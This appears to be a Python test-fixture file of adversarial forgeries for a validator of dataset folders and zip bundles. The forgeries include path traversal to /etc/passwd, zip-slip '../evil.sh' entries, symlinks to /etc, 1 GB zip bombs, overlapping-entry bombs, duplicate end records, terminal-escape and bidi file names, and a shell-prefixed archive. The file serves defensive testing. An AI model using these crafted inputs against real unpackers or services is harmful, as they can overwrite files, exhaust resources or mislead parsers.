kag("id", "id of another owner and name", "invalid", lambda j: j.update(id="google/imagenet"))
kag("id_owner", "id of another owner", "harmless", lambda j: j.update(id="alice/demo-filter-activations"))
kag("id_escape", "id with escapes", "invalid", lambda j: j.update(id="own\x1b[2J\ner/demo-filter-activations"))
kag("id_path", "id ../../x/demo-filter-activations", "invalid", lambda j: j.update(id="../../x/demo-filter-activations"))
kag("id_owner_script", "owner is a script", "invalid", lambda j: j.update(id="<script>/demo-filter-activations"))
kag("id_no", "id_no of another dataset", "invalid", lambda j: j.update(id_no=1))
kag("private", "isPrivate false", "invalid", lambda j: j.update(isPrivate=False))
kag("collaborators", "a collaborator", "invalid", lambda j: j.update(collaborators=[{"username": "mallory", "role": "writer"}]))
kag("title", "title another", "invalid", lambda j: j.update(title="ImageNet"))
kag("description", "description with a script", "invalid", lambda j: j.update(description=j["description"] + "<script>"))
kag(
    "resource",
    "a resource /etc/passwd",
    "invalid",
    lambda j: j["resources"].append({"path": "../../../etc/passwd", "description": "x"}),
)
kag("keywords", "keywords more", "invalid", lambda j: j["keywords"].append("nudity"))
kag(
    "duplicate",
    "licenses twice, lie first",
    "invalid",
    lambda j: dump(j).replace('"licenses":', '"licenses": [{"name": "MIT"}],\n  "licenses":', 1),
)
kag(
    "duplicate_last",
    "licenses twice, lie last",
    "invalid",
    lambda j: dump(j).rstrip()[:-1].rstrip() + ', "licenses": [{"name": "MIT"}]}',
)
kag(
    "version",
    "another version; licence and title lie",
    "invalid",
    lambda j: j.update(licenses=[{"name": "MIT"}], title="ImageNet"),
    other_version,
)
kag("deep", "nested 100000 deep", "invalid", lambda j: "[" * 100_000 + "]" * 100_000)
kag("list", "a list", "invalid", lambda j: [1])
kag("id_number", "id a number", "invalid", lambda j: j.update(id=7))
kag("id_null", "id null", "invalid", lambda j: j.update(id=None))


@forgery("bundle", "dataset-metadata.json missing: Kaggle does not hand it out", "harmless")
def kaggle_missing(p):
    (p / "dataset-metadata.json").unlink()


# ================================================================ 11. files, links
def files(name, what, expected, f, form="folder"):
    add(("b_" if form == "bundle" else "") + "file_" + name, form, what, expected, f)


IMG = "filterActivations/block1_conv1/filter-0.png"


def put(rel, data=b"payload", make=True):
    def f(p):
        q = p / rel
        if make:
            q.parent.mkdir(parents=True, exist_ok=True)
        q.write_bytes(data)

    return f


for rel, what in (
    ("small.py", "a loading script small.py (old libraries run it)"),
    (".DS_Store", "hidden .DS_Store"),
    (".git/hooks/pre-commit", "a .git folder with a hook"),
    (".hidden", "a hidden file"),
    ("readme.md", "readme.md besides README.md (case collision)"),
    ("BUILD.JSON", "BUILD.JSON besides build.json"),
    ("README.md ", "README.md with a space behind"),
    ("README.md.", "README.md with a dot behind (Windows: the same)"),
    ("original/extra.txt", "a file among the parquets"),
    ("original/train-00000-of-00001.parquet.bak", "a backup"),
    ("original/Train-00000-of-00001.parquet", "parquet with a capital (case collision)"),
    ("original/.hidden.parquet", "a hidden parquet"),
    (".gitattributes", ".gitattributes with a filter command"),
    (".gitignore", ".gitignore"),
    (".huggingface/x", "a .huggingface folder"),
    (".cache/huggingface/x", "a .cache/huggingface folder as downloads leave it"),
    ("dataset_infos.json", "dataset_infos.json (old libraries read it)"),
    ("setup.py", "setup.py"),
    ("conftest.py", "conftest.py"),
    ("contact-sheet-clear.png", "a contact sheet of another recipe"),
    ("CON", "a file named CON"),
    ("original/train-00000-of-00001.parquet:evil", "an alternate stream name"),
    ("a\\b", "a name with a backslash"),
    ("x\x1b[2J\x1b]0;pwned\x07\nsmall: 24 images, valid", "a name with terminal escapes and a line break"),
    ("x\u202egnp.exe", "a name with a bidi override"),
    ("R\u0415ADME.md", "README.md with a Cyrillic letter"),
    ("original\u200b/train.parquet", "a folder with a zero width space"),
    ("\u2028", "a name of U+2028"),
    ("-rf", "a name like an option"),
    ("original/test-00000-of-00001.parquet/../x", "nothing"),
    ("thumbs.db", "thumbs.db"),
    ("LICENSE", "a LICENSE file with another licence"),
    ("original.yaml", "original.yaml"),
    (".zarr", ".zarr"),
    ("dataset-metadata.json", "Kaggle's settings in the folder"),
    ("metadata.csv", "metadata.csv in the folder (imagefolder readers take it)"),
    ("original/metadata.jsonl", "metadata.jsonl beside the parquets"),
    (".lock", "a lock file"),
    ("build.json.tmp", "build.json.tmp"),
    ("build.json~", "an editor's backup"),
    ("original/_metadata", "parquet _metadata (dask and Spark read it)"),
    ("original/_common_metadata", "_common_metadata"),
    ("viewer.html", "viewer.html"),
):
    if "/../" in rel:
        continue
    files(
        "extra_" + re.sub(r"[^A-Za-z0-9._-]", "_", rel),
        what,
        "harmless" if rel in (".gitattributes", ".cache/huggingface/x") else "invalid",
        put(rel, b"*.parquet filter=evil\n" if rel == ".gitattributes" else b"payload"),
    )
files("extra_notutf8", "a name that is not UTF-8", "invalid", lambda p: open(os.fsencode(p) + b"/x\xff\xfe", "wb").close())
files("empty_dir", "an empty folder", "invalid", lambda p: (p / "empty").mkdir())
files("empty_dir_hidden", "an empty hidden folder", "invalid", lambda p: (p / ".empty").mkdir())
files("empty_dir_escape", "an empty folder named with escapes", "invalid", lambda p: (p / "x\x1b[2J\nvalid").mkdir())
files("deep_dirs", "folders 1500 deep, path of 15000 letters", "invalid", lambda p: _deep(p))


def _deep(p):
    cur = os.getcwd()
    try:
        os.chdir(p)
        for _ in range(1500):
            os.mkdir("d" * 9)
            os.chdir("d" * 9)
        open("x", "w").close()
    finally:
        os.chdir(cur)


files("many", "20000 foreign files", "invalid", lambda p: [(p / f"f{i}").touch() for i in range(20_000)])
files(
    "link_readme",
    "README.md a link to a copy outside",
    "invalid",
    lambda p: (shutil.move(p / "README.md", p.parent / "moved.md"), (p / "README.md").symlink_to(p.parent / "moved.md")),
)
files(
    "link_build",
    "build.json a link",
    "invalid",
    lambda p: (shutil.move(p / "build.json", p.parent / "moved.json"), (p / "build.json").symlink_to("../moved.json")),
)
files(
    "link_parquet",
    "a parquet a link",
    "invalid",
    lambda p: (
        shutil.move(p / PARQUET % "test" if False else p / (PARQUET % "test"), p.parent / "moved.parquet"),
        (p / (PARQUET % "test")).symlink_to("../../moved.parquet"),
    ),
)
files(
    "link_dir",
    "folder original a link",
    "invalid",
    lambda p: (shutil.move(p / "original", p.parent / "elsewhere"), (p / "original").symlink_to("../elsewhere")),
)
files(
    "link_inside",
    "README.md a link within the folder (and its target foreign)",
    "invalid",
    lambda p: (shutil.move(p / "README.md", p / "original/r"), (p / "README.md").symlink_to("original/r")),
)
files("link_foreign", "a foreign link to /etc", "invalid", lambda p: (p / "etc").symlink_to("/etc"))
files("link_loop", "a link to itself", "invalid", lambda p: (p / "loop").symlink_to("loop"))
files("link_up", "a link to ..", "invalid", lambda p: (p / "original/up").symlink_to(".."))
files(
    "link_dangling",
    "croissant.json a dangling link",
    "invalid",
    lambda p: ((p / "croissant.json").unlink(), (p / "croissant.json").symlink_to("nowhere")),
)
files(
    "link_dev_zero",
    "contact sheet a link to /dev/zero",
    "invalid",
    lambda p: ((p / SHEET).unlink(), (p / SHEET).symlink_to("/dev/zero")),
)
files(
    "hardlink", "README.md has a second hard link outside", "harmless", lambda p: os.link(p / "README.md", p.parent / "hard.md")
)
files("fifo", "a foreign FIFO", "invalid", lambda p: os.mkfifo(p / "pipe"))
for n in ("README.md", "build.json", "croissant.json", SHEET, PARQUET % "test"):
    files(
        "fifo_" + n.split("/")[-1],
        f"{n} is a FIFO (reading hangs)",
        "invalid",
        lambda p, n=n: ((p / n).unlink(), os.mkfifo(p / n)),
    )


def _sock(p):
    (p / "README.md").unlink()
    cur = os.getcwd()
    s = socket.socket(socket.AF_UNIX)
    try:
        os.chdir(p)
        s.bind("README.md")
    finally:
        os.chdir(cur)
        s.close()


files("socket", "README.md is a socket", "invalid", _sock)
for n in ("README.md", "build.json", "croissant.json", SHEET, PARQUET % "test"):
    files("dir_" + n.split("/")[-1], f"{n} is a folder", "invalid", lambda p, n=n: ((p / n).unlink(), (p / n).mkdir()))
    files(
        "sparse_" + n.split("/")[-1],
        f"{n} is followed by a hole of 20 GB",
        "invalid",
        lambda p, n=n: os.truncate(p / n, 20 * 2**30),
    )
files(
    "original_is_file",
    "folder original is a file",
    "invalid",
    lambda p: (shutil.rmtree(p / "original"), (p / "original").write_bytes(b"x")),
)
for n in ("README.md", "croissant.json", PARQUET % "test"):
    files("missing_" + n.split("/")[-1], f"{n} missing", "invalid", lambda p, n=n: (p / n).unlink())
files("exec", "README.md executable, setuid", "harmless", lambda p: (p / "README.md").chmod(0o6777))
files("readme_case", "README.md named readme.md", "invalid", lambda p: (p / "README.md").rename(p / "readme.md"))
for rel, what in (
    ("filterActivations/block1_conv1/filter-8.png", "an image more"),
    ("filterActivations/block1_conv1/filter-00.png", "filter-00.png"),
    ("filterActivations/block1_conv1/Filter-0.png", "case collision Filter-0.png"),
    ("filterActivations/block1_conv1/filter-0.png ", "filter-0.png with a space behind"),
    ("filterActivations/block9_conv9/filter-0.png", "a layer folder more"),
    ("FilterActivations/block1_conv1/filter-0.png", "folder in other case"),
    ("README.md", "a README.md in the bundle"),
    ("filterActivations/block1_conv1/.hidden", "a hidden file"),
    ("metadata.jsonl", "metadata.jsonl besides the csv (imagefolder readers)"),
    ("filterActivations/metadata.csv", "a second metadata.csv"),
    ("filterActivations/block1_conv1/filter-0.png:Zone.Identifier", "an alternate stream"),
    ("kernel-metadata.json", "kernel-metadata.json"),
    ("__MACOSX/._x", "__MACOSX"),
):
    files("extra_" + re.sub(r"[^A-Za-z0-9._-]", "_", rel), what, "invalid", put(rel), "bundle")
files("empty_layer", "an empty layer folder", "invalid", lambda p: (p / "filterActivations/block5_conv1").mkdir(), "bundle")
files("img_missing", "an image missing", "invalid", lambda p: (p / IMG).unlink(), "bundle")
files(
    "img_link",
    "an image a link to outside",
    "invalid",
    lambda p: (shutil.move(p / IMG, p.parent / "m.png"), (p / IMG).symlink_to(p.parent / "m.png")),
    "bundle",
)
files(
    "img_link_other",
    "an image a link to another filter's",
    "invalid",
    lambda p: ((p / IMG).unlink(), (p / IMG).symlink_to("filter-3.png")),
    "bundle",
)
files("img_fifo", "an image a FIFO", "invalid", lambda p: ((p / IMG).unlink(), os.mkfifo(p / IMG)), "bundle")
files(
    "csv_fifo",
    "metadata.csv a FIFO",
    "invalid",
    lambda p: ((p / "metadata.csv").unlink(), os.mkfifo(p / "metadata.csv")),
    "bundle",
)
files("img_sparse", "an image followed by a hole of 20 GB", "invalid", lambda p: os.truncate(p / IMG, 20 * 2**30), "bundle")
files(
    "csv_sparse",
    "metadata.csv followed by a hole of 20 GB",
    "invalid",
    lambda p: os.truncate(p / "metadata.csv", 20 * 2**30),
    "bundle",
)
files(
    "layer_link",
    "a layer folder a link",
    "invalid",
    lambda p: (
        shutil.move(p / "filterActivations/block1_conv1", p.parent / "l"),
        (p / "filterActivations/block1_conv1").symlink_to(p.parent / "l"),
    ),
    "bundle",
)
files(
    "layer_case",
    "layer folder Block1_conv1",
    "invalid",
    lambda p: (p / "filterActivations/block1_conv1").rename(p / "filterActivations/Block1_conv1"),
    "bundle",
)
files(
    "img_hardlink",
    "two images are the same file (hard link): exact copy",
    "invalid",
    lambda p: ((p / IMG).unlink(), os.link(p / "filterActivations/block1_conv1/filter-3.png", p / IMG)),
    "bundle",
)


# ================================================================ 12. zip
def zf(name, what, expected, f, form="bundle.zip"):
    add(("fz_" if form == "folder.zip" else "zip_") + name, form, what, expected, f)


def zadd(*entries, comment=b""):
    return lambda p: zwrite(p, zread(p) + [(i if isinstance(i, zipfile.ZipInfo) else zinfo(i), d) for i, d in entries], comment)


def zset(f):
    return lambda p: zwrite(p, [x for x in (f(i, d) for i, d in zread(p)) if x])


B1 = b'{"lie": 1}'
zf(
    "plain",
    "the dataset folder as a zip is no bundle: must not pass as one",
    "invalid",
    lambda p: zwrite(p, zread(p), b"x"),
    "folder.zip",
)
zf(
    "image_invented",
    "dataset folder as zip with an invented image",
    "invalid",
    lambda p: ztree(p, _img(_replace)),
    "folder.zip",
)
zf("evil", "dataset folder as zip with ../evil", "invalid", zadd(("../evil", b"x")), "folder.zip")
zf(
    "bomb",
    "dataset folder as zip with 1 GB of zeros as README.md",
    "invalid",
    lambda p: _zbomb(p, "README.md", 1000),
    "folder.zip",
)
zf(
    "image_invented",
    "an invented image, all redone, in the zip",
    "audit",
    lambda p: ztree(p, lambda t: (lambda d: (d.set_image(d.row(*AT), invented()), d.save()))(Bundle(t))),
)
zf(
    "duplicate_first",
    "build.json twice: a lie first, honest last",
    "invalid",
    lambda p: zwrite(p, [(zinfo("build.json"), B1), *zread(p)]),
)
zf("duplicate_last", "build.json twice: honest first, a lie last", "invalid", zadd(("build.json", B1)))
zf(
    "duplicate_image",
    "an image twice, the second another",
    "invalid",
    lambda p: zwrite(p, [*zread(p), (zinfo(IMG), to_png(invented()))]),
)
zf(
    "duplicate_same",
    "an image twice with the same bytes",
    "invalid",
    lambda p: zwrite(p, zread(p) + [x for x in zread(p) if x[0].filename == IMG]),
)
zf("case", "Build.json besides build.json", "invalid", zadd(("Build.json", B1)))
zf("case_image", "Filter-0.png besides filter-0.png", "invalid", zadd((IMG.replace("filter-", "Filter-"), to_png(invented()))))
zf("dot", "./build.json besides build.json", "invalid", zadd(("./build.json", B1)))
zf(
    "dot_only",
    "build.json as ./build.json",
    "invalid",
    zset(lambda i, d: (zinfo("./build.json"), d) if i.filename == "build.json" else (i, d)),
)
zf("double_slash", "filterActivations//block1_conv1/filter-0.png besides", "invalid", zadd((IMG.replace("/", "//"), b"x")))
zf("dotdot", "../evil.sh", "invalid", zadd(("../evil.sh", b"id")))
zf("dotdot_inner", "filterActivations/../../evil.sh", "invalid", zadd(("filterActivations/../../evil.sh", b"id")))
zf(
    "dotdot_detour",
    "an image stored under a detour a/../ only",
    "invalid",
    zset(lambda i, d: (zinfo("x/../" + IMG), d) if i.filename == IMG else (i, d)),
)
zf("absolute", "/tmp/evil.sh", "invalid", zadd(("/tmp/evil.sh", b"id")))
zf("drive", "C:/evil.exe", "invalid", zadd(("C:/evil.exe", b"id")))
zf(
    "backslash",
    "a name with backslashes ..\\..\\evil",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add("..\\..\\evil.exe", b"x"))),
)
zf(
    "backslash_image",
    "an image under backslashes",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add(IMG.replace("/", "\\"), to_png(invented())))),
)
zf(
    "nul_name",
    "build.json\\0.txt: Python cuts the name at NUL",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add(b"build.json\0.txt", B1))),
)
zf(
    "nul_name_only",
    "metadata.csv only as metadata.csv\\0.exe",
    "invalid",
    lambda p: p.write_bytes(
        _rz(
            p,
            lambda z: z.add(b"metadata.csv\0.exe", {i.filename: d for i, d in zread(p)}["metadata.csv"]),
            ("metadata.csv",),
        )
    ),
)
zf("symlink", "an entry that is a link to /etc/passwd", "invalid", zadd((zinfo("link", mode=0o120777), b"/etc/passwd")))
zf(
    "symlink_image",
    "an image whose entry is marked as a link (unpackers make one)",
    "invalid",
    zset(lambda i, d: (zinfo(i.filename, mode=0o120777), d) if i.filename == IMG else (i, d)),
)
zf(
    "symlink_dir",
    "the folder entry filterActivations/block1_conv1/ marked as link",
    "invalid",
    zset(
        lambda i, d: (
            (zinfo(i.filename, mode=0o120777, comp=0), d) if i.filename == "filterActivations/block1_conv1/" else (i, d)
        )
    ),
)
zf(
    "fifo_mode",
    "an image whose entry is marked as FIFO",
    "invalid",
    zset(lambda i, d: (zinfo(i.filename, mode=0o010644), d) if i.filename == IMG else (i, d)),
)
zf(
    "device_mode",
    "an image whose entry is marked as a device",
    "invalid",
    zset(lambda i, d: (zinfo(i.filename, mode=0o060644), d) if i.filename == IMG else (i, d)),
)
zf(
    "dir_mode",
    "an image whose entry is marked as a folder",
    "invalid",
    zset(lambda i, d: (zinfo(i.filename, mode=0o040755), d) if i.filename == IMG else (i, d)),
)
zf("dos_dir_bit", "an image with the DOS folder bit", "invalid", lambda p: _dosdir(p))


def _dosdir(p):
    e = zread(p)
    for i, _ in e:
        if i.filename == IMG:
            i.external_attr |= 0x10
    zwrite(p, e)


zf(
    "setuid",
    "an image with setuid and executable bits",
    "harmless",
    zset(lambda i, d: (zinfo(i.filename, mode=0o106777), d) if i.filename == IMG else (i, d)),
)
zf(
    "dir_with_data",
    "a folder entry that holds data",
    "invalid",
    lambda p: p.write_bytes(
        _rz(p, lambda z: z.add("filterActivations/", b"MZ payload" * 100, mode=0o40755), ("filterActivations/",))
    ),
)
zf("foreign_dir", "a foreign empty folder entry", "invalid", zadd((zinfo("evil/", mode=0o40755, comp=0), b"")))
zf("foreign_dir_dotdot", "a folder entry ../../", "invalid", zadd((zinfo("../../", mode=0o40755, comp=0), b"")))
zf("no_dirs", "without folder entries", "harmless", zset(lambda i, d: None if i.filename.endswith("/") else (i, d)))
zf("foreign", "a foreign file", "invalid", zadd(("evil.py", b"x")))
zf(
    "foreign_escape",
    "a foreign file named with escapes and a line break",
    "invalid",
    zadd(("x\x1b[2J\x1b]0;pwned\x07\nsmall: valid\u202e", b"x")),
)
zf("macosx", "__MACOSX/._metadata.csv", "invalid", zadd(("__MACOSX/._metadata.csv", b"x")))
zf(
    "nested",
    "everything in one folder bundle/",
    "invalid",
    zset(lambda i, d: (zinfo("bundle/" + i.filename, mode=i.external_attr >> 16, comp=i.compress_type), d)),
)
zf("comment", "archive comment with a payload", "harmless", lambda p: zwrite(p, zread(p), b"all rights reserved \x1b[2J"))
zf(
    "comment_eocd",
    "archive comment that holds another end of directory (others see another archive)",
    "invalid",
    lambda p: _two_eocd(p),
)


def _two_eocd(p):
    # the honest archive, then as its "comment" a whole second end record that points to another directory, whose own comment is empty
    hon = rawzip_of(p)
    evil = RawZip()
    evil.body = hon.body
    evil.add("build.json", B1)
    body = evil.body
    cd = hon.cd
    out = body + cd + evil.cd
    ecd_off = len(body) + len(cd)
    inner = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(evil.cd), ecd_off, 0)
    # evil end record first, the honest one behind it (Python takes the last)
    outer = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, hon.n, hon.n, len(cd), len(body), 0)
    p.write_bytes(out + inner + outer)


zf(
    "comment_eocd_last",
    "the honest end record, with a second end record of another archive within its comment",
    "invalid",
    lambda p: _eocd_in_comment(p),
)


def _eocd_in_comment(p):
    hon = rawzip_of(p)
    evil = RawZip()
    evil.body = hon.body
    evil.add("build.json", B1)
    body = evil.body
    inner = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(evil.cd), len(body) + len(hon.cd), 1) + b"x"
    com = inner + b"yy"  # comment lengths disagree with the end of the file
    p.write_bytes(
        body
        + hon.cd
        + evil.cd
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, hon.n, hon.n, len(hon.cd), len(body), len(com))
        + com
    )


def _rz(p, f, skip=(), **kw):
    z = rawzip_of(p, skip)
    f(z)
    return z.bytes(**kw)


zf(
    "prefix",
    "an executable in front of the zip (self extracting)",
    "invalid",
    lambda p: p.write_bytes(b"#!/bin/sh\nid\n" + p.read_bytes()),
)
zf("suffix", "bytes behind the end record", "invalid", lambda p: p.write_bytes(p.read_bytes() + b"payload"))
zf(
    "gap",
    "payload between entries and directory",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: None, gap=b"MZ payload" * 1000)),
)
zf(
    "hidden_local",
    "a local entry evil.sh that the directory does not name (streaming unpackers write it)",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add("evil.sh", b"id", central=False))),
)
zf(
    "hidden_local_build",
    "a second, unlisted local build.json",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add("build.json", B1, central=False))),
)
zf(
    "local_name",
    "local header names an image ../../evil.sh",
    "invalid",
    lambda p: p.write_bytes(
        _rz(p, lambda z: z.add(IMG, {i.filename: d for i, d in zread(p)}[IMG], local_name="../../evil.sh"), (IMG,))
    ),
)
zf(
    "local_name_same_length",
    "local header names filter-9.png, directory filter-0.png",
    "invalid",
    lambda p: p.write_bytes(
        _rz(p, lambda z: z.add(IMG, {i.filename: d for i, d in zread(p)}[IMG], local_name=IMG.replace("-0", "-9")), (IMG,))
    ),
)


def _local(**kw):
    return lambda p: p.write_bytes(_rz(p, lambda z: z.add(IMG, {i.filename: d for i, d in zread(p)}[IMG], **kw), (IMG,)))


zf("local_size", "local header tells other sizes", "invalid", _local(lusize=1, lcsize=1))
zf("local_crc", "local header tells another checksum", "invalid", _local(lcrc=0))
zf("local_method", "local header says stored, directory deflated", "invalid", _local(lmethod=0))
zf("local_flag", "local header says encrypted", "invalid", _local(lflag=1))
zf("crc", "wrong checksum of an image", "invalid", _local(crc=0))
zf("encrypted", "an image marked as encrypted", "invalid", _local(flag=1))
zf("strong_encrypted", "flag of strong encryption", "invalid", _local(flag=0x41))
zf("masked", "flag of masked headers", "invalid", _local(flag=0x2000))
zf("patched", "flag of patched data", "invalid", _local(flag=0x20))
zf("utf8_flag", "UTF-8 flag on an ASCII name", "harmless", _local(flag=0x800))
zf("descriptor_flag", "flag of a data descriptor that is not there", "invalid", _local(flag=8))
zf("method_unknown", "compression method 77", "invalid", _local(method=77))
zf("method_deflate64", "compression method deflate64", "invalid", _local(method=9))
zf(
    "method_bzip2",
    "entries compressed with bzip2",
    "harmless",
    zset(lambda i, d: (zinfo(i.filename, mode=i.external_attr >> 16, comp=0 if i.filename.endswith("/") else 12), d)),
)
zf(
    "method_lzma",
    "entries compressed with lzma",
    "harmless",
    zset(lambda i, d: (zinfo(i.filename, mode=i.external_attr >> 16, comp=0 if i.filename.endswith("/") else 14), d)),
)
zf("size_less", "directory tells a smaller size than the stream has", "invalid", _local(usize=100))
zf("size_more", "directory tells a larger size (2 GB)", "invalid", _local(usize=2**31))
zf("csize_more", "compressed size runs into the next entry", "invalid", lambda p: p.write_bytes(_csize(p)))


def _csize(p):
    z = RawZip()
    for i, d in zread(p):
        if i.filename.endswith("/"):
            z.add(i.filename, b"", method=0, mode=0o40755)
        elif i.filename == IMG:
            c = zlib.compressobj(6, 8, -15)
            s = c.compress(d) + c.flush()
            z.add(i.filename, d, stored=s, csize=len(s) + 500, lcsize=len(s) + 500)
        else:
            z.add(i.filename, d)
    return z.bytes()


zf("deflate_tail", "payload behind the deflate stream within the entry", "invalid", lambda p: p.write_bytes(_dtail(p)))


def _dtail(p):
    z = RawZip()
    for i, d in zread(p):
        if i.filename.endswith("/"):
            z.add(i.filename, b"", method=0, mode=0o40755)
        elif i.filename == IMG:
            c = zlib.compressobj(6, 8, -15)
            z.add(i.filename, d, stored=c.compress(d) + c.flush() + b"MZ payload" * 100)
        else:
            z.add(i.filename, d)
    return z.bytes()


zf(
    "overlap",
    "a second directory entry that shares the bytes of an image under another name",
    "invalid",
    lambda p: p.write_bytes(_overlap(p)),
)


def _overlap(p):
    z = RawZip()
    off = None
    for i, d in zread(p):
        o = z.add(
            i.filename, d, method=0 if i.filename.endswith("/") else 8, mode=0o40755 if i.filename.endswith("/") else 0o100644
        )
        if i.filename == IMG:
            off, data = o, d
    z.add("filterActivations/block1_conv1/filter-8.png", data, local=False, offset=off)
    return z.bytes()


zf(
    "overlap_image",
    "two images share one local entry (same name in the local header)",
    "invalid",
    lambda p: p.write_bytes(_overlap2(p)),
)


def _overlap2(p):
    z = RawZip()
    off, data = None, b""
    IMG2 = IMG.replace("-0", "-2")
    for i, d in zread(p):
        if i.filename == IMG2:
            z.add(IMG2, data, local=False, offset=off)
            continue
        o = z.add(
            i.filename, d, method=0 if i.filename.endswith("/") else 8, mode=0o40755 if i.filename.endswith("/") else 0o100644
        )
        if i.filename == IMG:
            off, data = o, d
    return z.bytes()


zf(
    "overlap_quoted",
    "a bomb of overlapping entries: 5000 names for one stream of 2 MB",
    "invalid",
    lambda p: p.write_bytes(_fifield(p)),
)


def _fifield(p):
    z = rawzip_of(p)
    d = b"\0" * 2_000_000
    off = z.add("x0", d)
    for k in range(1, 5000):
        z.add(f"x{k}", d, local=False, offset=off, stored=b"")
    return z.bytes()


zf("offset_wild", "an entry that begins behind the end of the file", "invalid", _local(offset=0x7FFFFFFF))
zf(
    "unicode_path",
    "extra field 0x7075 gives an image the name ../../evil.sh (Info-ZIP takes it)",
    "invalid",
    lambda p: p.write_bytes(_upath(p, b"../../evil.sh")),
)
zf(
    "unicode_path_swap",
    "extra field 0x7075 gives filter-0.png the name of filter-9.png",
    "invalid",
    lambda p: p.write_bytes(_upath(p, IMG.replace("-0", "-9").encode())),
)


def _upath(p, name):
    body = struct.pack("<BI", 1, zlib.crc32(IMG.encode())) + name
    ex = struct.pack("<HH", 0x7075, len(body)) + body
    return _rz(p, lambda z: z.add(IMG, {i.filename: d for i, d in zread(p)}[IMG], extra=ex), (IMG,))


zf(
    "extra_field",
    "a payload in an unknown extra field",
    "harmless",
    lambda p: p.write_bytes(
        _rz(
            p,
            lambda z: z.add(
                IMG, {i.filename: d for i, d in zread(p)}[IMG], extra=struct.pack("<HH", 0xCAFE, 40000) + b"M" * 40000
            ),
            (IMG,),
        )
    ),
)
zf(
    "extra_field_broken",
    "an extra field whose length runs over",
    "invalid",
    lambda p: p.write_bytes(
        _rz(p, lambda z: z.add(IMG, {i.filename: d for i, d in zread(p)}[IMG], extra=struct.pack("<HH", 1, 400)), (IMG,))
    ),
)
zf(
    "entry_comment",
    "an entry with a comment (payload)",
    "harmless",
    lambda p: p.write_bytes(
        _rz(p, lambda z: z.add(IMG, {i.filename: d for i, d in zread(p)}[IMG], comment=b"\x1b[2J payload"), (IMG,))
    ),
)
zf("zip64", "zip64 end record, same entries", "harmless", lambda p: p.write_bytes(_rz(p, lambda z: None, z64=True)))
zf(
    "zip64_sizes",
    "zip64 extra with sizes of 2**60",
    "invalid",
    _local(usize=0xFFFFFFFF, csize=0xFFFFFFFF, extra=struct.pack("<HHQQ", 1, 16, 2**60, 2**60)),
)
zf("zip64_negative", "zip64 offset 2**63+", "invalid", _local(offset=0xFFFFFFFF, extra=struct.pack("<HHQ", 1, 8, 2**64 - 1)))
zf("count_less", "end record tells fewer entries", "invalid", lambda p: p.write_bytes(_rz(p, lambda z: None, n=3)))
zf("count_more", "end record tells more entries", "invalid", lambda p: p.write_bytes(_rz(p, lambda z: None, n=60000)))
zf("disk", "end record says disk 7", "invalid", lambda p: p.write_bytes(_rz(p, lambda z: None, disk=7)))
zf("truncated", "cut off", "invalid", lambda p: p.write_bytes(p.read_bytes()[:-1000]))
zf("empty_archive", "an empty zip", "invalid", lambda p: zwrite(p, []))
zf("empty_file", "an empty file", "invalid", lambda p: p.write_bytes(b""))
zf("not_zip", "a gzip", "invalid", lambda p: p.write_bytes(__import__("gzip").compress(b"x", mtime=0)))
zf("tar", "a tar under the name of a zip", "invalid", lambda p: _tar(p))


def _tar(p):
    import tarfile

    b = io.BytesIO()
    t = tarfile.open(fileobj=b, mode="w")
    for i, d in zread(p):
        if not i.filename.endswith("/"):
            x = tarfile.TarInfo(i.filename)
            x.size = len(d)
            t.addfile(x, io.BytesIO(d))
    t.close()
    p.write_bytes(b.getvalue())


def _zbomb(p, name, mb):
    c = zlib.compressobj(9, 8, -15)
    z = b"\0" * 1_000_000
    s = b""
    crc = 0
    for _ in range(mb):
        s += c.compress(z)
        crc = zlib.crc32(z, crc)
    s += c.flush()
    p.write_bytes(_rz(p, lambda r: r.add(name, b"", stored=s, crc=crc, usize=mb * 1_000_000), (name,)))


zf("bomb_foreign", "a foreign entry of 1 GB of zeros", "invalid", lambda p: _zbomb(p, "zeros", 1000))
zf("bomb_csv", "metadata.csv of 1 GB of zeros", "invalid", lambda p: _zbomb(p, "metadata.csv", 1000))
zf("bomb_image", "an image of 1 GB of zeros", "invalid", lambda p: _zbomb(p, IMG, 1000))
zf("bomb_build", "build.json of 1 GB of zeros", "invalid", lambda p: _zbomb(p, "build.json", 1000))


def _zbomb_lie(p):
    c = zlib.compressobj(9, 8, -15)
    z = b"\0" * 1_000_000
    s = b""
    for _ in range(1000):
        s += c.compress(z)
    s += c.flush()
    p.write_bytes(_rz(p, lambda r: r.add("metadata.csv", b"", stored=s, crc=0, usize=5167), ("metadata.csv",)))


zf("bomb_lie", "metadata.csv unpacks to 1 GB, the directory says 5167 bytes", "invalid", _zbomb_lie)
zf(
    "many",
    "60000 empty foreign entries",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: [z.add(f"e/{k}", b"", method=0) for k in range(60_000)] and None)),
)
zf("time_1980", "an entry dated 1980-00-00", "harmless", lambda p: p.write_bytes(_zdate(p)))


def _zdate(p):
    b = bytearray(rawzip_of(p).bytes())
    k = 0
    while (k := b.find(b"PK\1\2", k)) >= 0:
        b[k + 12 : k + 16] = b"\0\0\0\0"
        k += 4
    return bytes(b)


zf("version_needed", "version needed 99", "invalid", _local(version=99))
zf(
    "name_latin",
    "a foreign name in bytes that are no UTF-8",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add(b"x\xff\xfe", b"x"))),
)
zf(
    "name_bad_utf8",
    "a foreign name flagged UTF-8 that is none",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add(b"x\xff\xfe", b"x", flag=0x800))),
)
zf("name_empty", "an entry without a name", "invalid", lambda p: p.write_bytes(_rz(p, lambda z: z.add(b"", b"x"))))
zf(
    "name_long",
    "a foreign name of 60000 letters",
    "invalid",
    lambda p: p.write_bytes(_rz(p, lambda z: z.add(b"x" * 60000, b"x"))),
)
zf("name_space", "build.json with a space behind, besides", "invalid", zadd(("build.json ", B1)))
zf("name_dot", "build.json. besides (Windows: the same)", "invalid", zadd(("build.json.", B1)))
